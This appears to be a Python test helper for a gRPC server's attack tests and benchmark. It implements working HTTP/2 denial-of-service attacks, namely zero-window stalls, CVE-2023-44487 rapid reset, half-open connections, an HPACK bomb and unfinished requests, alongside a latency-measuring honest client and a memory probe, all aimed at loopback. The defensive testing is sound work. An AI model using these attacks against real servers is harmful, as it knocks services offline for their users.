"""Hostile HTTP/2 clients, an honest one, and a memory probe: the pieces
of the attack tests (tests/e2e/attacks) and of bench/run-attacks.sh.

The attacks that keep a CPU busy (stalled, rapid-reset, hpack-bomb) run
in a process of their own (Attack, which runs this file as a script), so
that the honest client's latencies measure the server, not a Python
interpreter shared with the attacker:

  hostile.py ATTACK ADDRESS JSON_ARGUMENTS   prints the attack's result
                                             as one JSON line

The attackers speak raw HTTP/2 over plain sockets, frame by frame, so that
they can do what no well-behaved library lets them do: never open a flow
control window, reset a stream in the same packet that started it, stop
half-way through the connection preface, or send a header block that
decodes to a thousand times its size (one, which only needs to leave its
requests unfinished, uses the h2 library). Each binds its sockets to a source
address of its own (127.0.0.2 by default: Linux routes all of 127/8 to the
loopback interface), so that the server can tell it from the honest
client, which connects from 127.0.0.1 with grpcio.

Nothing here asserts: the attacks return what they did, the honest client
its latencies and failures, the probe the server's resident memory over
time; the tests and the benchmark decide what is good enough.
"""

import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time

import grpc

ATTACKER_ADDRESS = "127.0.0.2"

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_INITIAL_WINDOW_SIZE = 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


# ---- HTTP/2 and HPACK, by hand ----------------------------------------------

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def settings(values=None):
    payload = b"".join(struct.pack(">HI", key, value)
                       for key, value in (values or {}).items())
    return frame(SETTINGS, 0, 0, payload)


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 section 5.1."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data):
    return hpack_int(len(data), 7) + data


def literal(name, value, indexed=False):
    """A literal field with a new name, added to the dynamic table when
    indexed (RFC 7541 section 6.2.1), else not (6.2.2)."""
    return (b"\x40" if indexed else b"\x00") + hpack_string(name) + \
        hpack_string(value)


def grpc_header_block(path, authority="localhost"):
    fields = [(b":method", b"POST"), (b":scheme", b"http"),
              (b":path", path.encode()), (b":authority", authority.encode()),
              (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(literal(name, value) for name, value in fields)


def grpc_message(payload):
    return struct.pack(">BI", 0, len(payload)) + payload


def connect(address, bind=ATTACKER_ADDRESS, timeout=10.0):
    host, port = address.rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if bind:
        sock.bind((bind, 0))
    sock.settimeout(timeout)
    sock.connect((host, int(port)))
    return sock


def drain(sock, stop):
    """Reads and drops whatever the server sends until it closes or stop is
    set; returns the bytes read."""
    total = 0
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not chunk:
            break
        total += len(chunk)
    return total


def _threads(target, count, *args):
    threads = [threading.Thread(target=target, args=(i,) + args,
                                daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    return threads


# ---- attacks ------------------------------------------------------------------

def stalled_responses(address, path, request, connections=5, calls=100,
                      hold_s=5.0, bind=ATTACKER_ADDRESS):
    """Each connection sets its stream windows to 0 (SETTINGS
    INITIAL_WINDOW_SIZE) and never sends a WINDOW_UPDATE, then asks for
    `calls` responses and keeps reading whatever the window lets through,
    for hold_s seconds. Returns {"connections", "bytes_read", "closed"}."""
    stop = threading.Event()
    read = [0] * connections
    closed = [False] * connections

    def attacker(index):
        try:
            sock = connect(address, bind)
            block = grpc_header_block(path)
            body = grpc_message(request)
            out = [PREFACE, settings({SETTINGS_INITIAL_WINDOW_SIZE: 0})]
            for n in range(calls):
                stream = 1 + 2 * n
                out.append(frame(HEADERS, END_HEADERS, stream, block))
                out.append(frame(DATA, END_STREAM, stream, body))
            sock.sendall(b"".join(out))
        except OSError:
            closed[index] = True
            return
        read[index] = drain(sock, stop)
        closed[index] = not stop.is_set()
        sock.close()

    threads = _threads(attacker, connections)
    stop.wait(hold_s)
    stop.set()
    for thread in threads:
        thread.join(10)
    return {"connections": connections, "bytes_read": sum(read),
            "closed": sum(closed)}


def rapid_reset(address, path, request, duration_s, connections=2,
                batch=100, bind=ATTACKER_ADDRESS):
    """CVE-2023-44487's pattern: HEADERS + DATA of an expensive call and at
    once RST_STREAM CANCEL, in batches, as fast as the socket takes them,
    reconnecting whenever the server ends the connection. Returns
    {"resets", "connections"}."""
    deadline = time.monotonic() + duration_s
    counts = {"resets": 0, "connections": 0}
    lock = threading.Lock()
    block = grpc_header_block(path)
    body = grpc_message(request)

    def attacker(index):
        while time.monotonic() < deadline:
            try:
                sock = connect(address, bind)
            except OSError:
                time.sleep(0.01)
                continue
            with lock:
                counts["connections"] += 1
            stop = threading.Event()
            reader = threading.Thread(target=drain, args=(sock, stop),
                                      daemon=True)
            reader.start()
            stream = 1
            try:
                sock.sendall(PREFACE + settings())
                while time.monotonic() < deadline and reader.is_alive():
                    out = []
                    for _ in range(batch):
                        out.append(frame(HEADERS, END_HEADERS, stream, block))
                        out.append(frame(DATA, END_STREAM, stream, body))
                        out.append(frame(RST_STREAM, 0, stream,
                                         struct.pack(">I", CANCEL)))
                        stream += 2
                    sock.sendall(b"".join(out))
                    with lock:
                        counts["resets"] += batch
            except OSError:
                pass
            stop.set()
            reader.join(5)
            sock.close()

    for thread in _threads(attacker, connections):
        thread.join(duration_s + 30)
    return counts


def half_open(address, count, bind=ATTACKER_ADDRESS, partial=True):
    """Opens count TCP connections that send nothing, or only half of the
    client preface (partial): the kind of connection that holds a slot
    without ever becoming HTTP/2. Returns the sockets (the caller closes
    them) and how many connect() calls failed."""
    sockets, failed = [], 0
    for _ in range(count):
        try:
            sock = connect(address, bind, timeout=5)
            if partial:
                sock.sendall(PREFACE[:12])
            sockets.append(sock)
        except OSError:
            failed += 1
    return sockets, failed


def is_open(sock):
    """False once the server closed sock: reads (and drops) what it sent
    until the end of it, or until nothing more is there."""
    sock.setblocking(False)
    try:
        while True:
            if not sock.recv(65536):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def count_open(sockets, wait_s=0.0):
    """How many of sockets the server has not closed (after wait_s)."""
    time.sleep(wait_s)
    return sum(1 for sock in sockets if is_open(sock))


def hpack_bomb_block(table_size=4096, references=16000):
    """A header block that is small on the wire and huge decoded: one
    header that fills the dynamic table (RFC 7541 section 4.1: name +
    value + 32 octets), then `references` one-byte references to it."""
    value = b"b" * (table_size - 32 - len(b"x-bomb"))
    entry = literal(b"x-bomb", value, indexed=True)
    return grpc_header_block("/rectrack.v1.Tracker/GetServerInfo") + entry + \
        hpack_int(62, 7, 0x80) * references


def hpack_bomb(address, duration_s, connections=2, bind=ATTACKER_ADDRESS,
               max_frame=16384):
    """Sends HPACK-bomb header blocks (HEADERS and CONTINUATION frames of
    max_frame bytes) on new connections, again and again, for duration_s.
    Returns {"blocks", "connections"}."""
    deadline = time.monotonic() + duration_s
    block = hpack_bomb_block()
    pieces = [block[i:i + max_frame] for i in range(0, len(block), max_frame)]
    counts = {"blocks": 0, "connections": 0}
    lock = threading.Lock()

    def attacker(index):
        while time.monotonic() < deadline:
            try:
                sock = connect(address, bind)
            except OSError:
                time.sleep(0.01)
                continue
            with lock:
                counts["connections"] += 1
            stop = threading.Event()
            reader = threading.Thread(target=drain, args=(sock, stop),
                                      daemon=True)
            reader.start()
            try:
                sock.sendall(PREFACE + settings())
                stream = 1
                while time.monotonic() < deadline and reader.is_alive():
                    out = []
                    for i, piece in enumerate(pieces):
                        last = END_HEADERS if i == len(pieces) - 1 else 0
                        out.append(frame(HEADERS if i == 0 else CONTINUATION,
                                         last | (END_STREAM if i == 0 else 0),
                                         stream, piece))
                    sock.sendall(b"".join(out))
                    stream += 2
                    with lock:
                        counts["blocks"] += 1
            except OSError:
                pass
            stop.set()
            reader.join(5)
            sock.close()

    for thread in _threads(attacker, connections):
        thread.join(duration_s + 30)
    return counts


def unfinished_requests(address, streams=40, size=3 << 20, hold_s=3.0,
                        bind=ATTACKER_ADDRESS):
    """One connection starts `streams` calls, each declaring a 4 MB
    message and sending `size` bytes of it, as fast as flow control lets
    it, and never the rest: request bytes parked on the server. Uses the
    h2 library, which keeps to the windows. Returns {"sent", "reset"}:
    bytes sent, and streams the server ended before they were done."""
    import h2.connection
    import h2.events
    import h2.exceptions
    sock = connect(address, bind)
    conn = h2.connection.H2Connection()
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    left, reset, sent = {}, set(), 0
    for _ in range(streams):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [
            (":method", "POST"), (":scheme", "http"),
            (":path", "/rectrack.v1.Tracker/CreateSource"),
            (":authority", "localhost"), ("content-type", "application/grpc")])
        conn.send_data(stream, struct.pack(">BI", 0, 4 << 20))
        left[stream] = size
    sock.sendall(conn.data_to_send())
    deadline = time.monotonic() + hold_s
    sock.settimeout(0.05)
    while time.monotonic() < deadline:
        for stream in list(left):
            window = min(conn.local_flow_control_window(stream),
                         conn.max_outbound_frame_size, left[stream])
            if window > 0 and stream not in reset:
                try:
                    conn.send_data(stream, b"x" * window)
                except h2.exceptions.StreamClosedError:
                    reset.add(stream)
                    continue
                left[stream] -= window
                sent += window
        try:
            sock.sendall(conn.data_to_send())
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, (h2.events.StreamReset,
                                  h2.events.StreamEnded)):
                reset.add(event.stream_id)
            if isinstance(event, h2.events.TrailersReceived) or \
                    isinstance(event, h2.events.ResponseReceived):
                if any(k == b"grpc-status" for k, _ in event.headers):
                    reset.add(event.stream_id)
    sock.close()
    return {"sent": sent, "reset": len(reset)}


# ---- attacks in a process of their own ------------------------------------------

ATTACKS = {"stalled": stalled_responses, "rapid-reset": rapid_reset,
           "hpack-bomb": hpack_bomb, "unfinished-requests": unfinished_requests}


class Attack:
    """One of ATTACKS, run by this file as a script in a child process:
    Attack("rapid-reset", address, path=..., request=b"...", duration_s=5)
    .start(); .wait() returns its result (a dict)."""

    def __init__(self, name, address, **arguments):
        if isinstance(arguments.get("request"), bytes):
            arguments["request"] = arguments["request"].hex()
        self.argv = [sys.executable, os.path.abspath(__file__), name, address,
                     json.dumps(arguments)]
        self.proc = None

    def start(self):
        self.proc = subprocess.Popen(self.argv, stdout=subprocess.PIPE,
                                     text=True)
        return self

    def wait(self, timeout=120):
        out, _ = self.proc.communicate(timeout=timeout)
        if self.proc.returncode != 0:
            raise RuntimeError("%s exited %s" % (self.argv[2],
                                                 self.proc.returncode))
        return json.loads(out.strip().splitlines()[-1])

    def kill(self):
        if self.proc is not None and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()


def _main(argv):
    name, address, arguments = argv[1], argv[2], json.loads(argv[3])
    if "request" in arguments:
        arguments["request"] = bytes.fromhex(arguments["request"])
    print(json.dumps(ATTACKS[name](address, **arguments)), flush=True)
    return 0


# ---- the honest client and the probe ------------------------------------------

class Honest:
    """A grpcio client from 127.0.0.1 calling `call(stub)` in a closed loop
    (one call at a time, a pause of interval_s between calls) on a fresh
    channel, until stop(). Keeps each call's latency in ms, and the
    failures."""

    def __init__(self, address, make_call, interval_s=0.01, timeout_s=10.0):
        self.address = address
        self.make_call = make_call
        self.interval_s = interval_s
        self.timeout_s = timeout_s
        self.latencies = []
        self.failures = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self._thread.start()
        return self

    def _run(self):
        # A connection of its own: grpcio would otherwise share one with
        # every other channel of the process to the same address.
        channel = grpc.insecure_channel(
            self.address, options=[("grpc.use_local_subchannel_pool", 1)])
        try:
            while not self._stop.is_set():
                began = time.monotonic()
                try:
                    self.make_call(channel, self.timeout_s)
                    self.latencies.append((time.monotonic() - began) * 1000)
                except grpc.RpcError as error:
                    self.failures.append("%s: %s" % (error.code(),
                                                     error.details()))
                self._stop.wait(self.interval_s)
        finally:
            channel.close()

    def stop(self):
        self._stop.set()
        if self._thread.ident is not None:
            self._thread.join(self.timeout_s + 10)
        return self

    def percentile(self, fraction):
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]

    def summary(self):
        return {"calls": len(self.latencies), "failures": len(self.failures),
                "p50_ms": round(self.percentile(0.50), 2),
                "p99_ms": round(self.percentile(0.99), 2),
                "max_ms": round(max(self.latencies or [float("inf")]), 2)}


def rss_kib(pid):
    """VmRSS of process pid, in KiB."""
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS for %d" % pid)


class RssProbe:
    """Samples a process's VmRSS every interval_s in a thread: samples is
    [(seconds since start, KiB)]."""

    def __init__(self, pid, interval_s=0.05):
        self.pid = pid
        self.interval_s = interval_s
        self.samples = []
        self._stop = threading.Event()
        self._began = time.monotonic()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self._thread.start()
        return self

    def _run(self):
        while not self._stop.is_set():
            try:
                self.samples.append((time.monotonic() - self._began,
                                     rss_kib(self.pid)))
            except (OSError, RuntimeError):
                return
            self._stop.wait(self.interval_s)

    def stop(self):
        self._stop.set()
        self._thread.join(5)
        return self

    def peak_kib(self):
        return max(kib for _, kib in self.samples)


def attacker_available(address=ATTACKER_ADDRESS):
    """True when sockets can bind to the attacker's source address."""
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind((address, 0))
        sock.close()
        return True
    except OSError:
        return False


def big_text(size=3000, seed=0):
    """About size bytes of prose-like text that does not compress to
    nothing."""
    words = []
    state = seed * 7919 + 1
    while sum(len(w) + 1 for w in words) < size:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        words.append("w%x" % (state % 100000))
    return " ".join(words)[:size]



if __name__ == "__main__":
    sys.exit(_main(sys.argv))
